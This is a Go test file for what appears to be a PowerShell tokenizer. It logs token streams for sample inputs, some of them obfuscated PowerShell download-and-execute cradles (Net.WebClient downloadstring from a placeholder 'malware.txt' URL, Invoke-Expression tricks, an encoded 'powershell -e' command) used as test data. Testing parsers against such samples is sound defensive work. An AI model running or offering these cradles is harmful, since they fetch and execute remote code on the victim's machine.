package pstoken

import "testing"

// TestSmokeDump is a development aid printing token streams for a few
// representative obfuscated inputs. It never fails; real assertions live
// in tokenizer_test.go.
func TestSmokeDump(t *testing.T) {
	inputs := []string{
		"(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')",
		"(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')",
		`Invoke-Expression (("{1}{0}" -f 'llo','he')).RepLACe('jYU',[STRiNg][CHar]39)`,
		`( '99S5i46' -SPLIT'~' -SPLit 'd' | fOrEAch-ObJECt{ [cHAR]($_ -BxoR'0x4B') })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')`,
		"$a = 'x'; if ($a -eq 'x') { write-host hello } else { exit }",
		"foreach ($i in 1..10) { $s += $i }",
		"powershell -e aABlAGwAbABvAA==",
		". ($pshome[4]+$pshome[30]+'x') 'write-host hi'",
		"@{a = 1; b = 'two'}",
		"function foo($x) { return $x * 2 }",
		"\"value: $(1+2) and $env:USERNAME `\" done\"",
	}
	for _, in := range inputs {
		toks, err := Tokenize(in)
		if err != nil {
			t.Logf("INPUT %q -> error: %v", in, err)
			continue
		}
		t.Logf("INPUT %q", in)
		for _, tok := range toks {
			t.Logf("   %-18s %q", tok.Type, tok.Text(in))
		}
	}
}
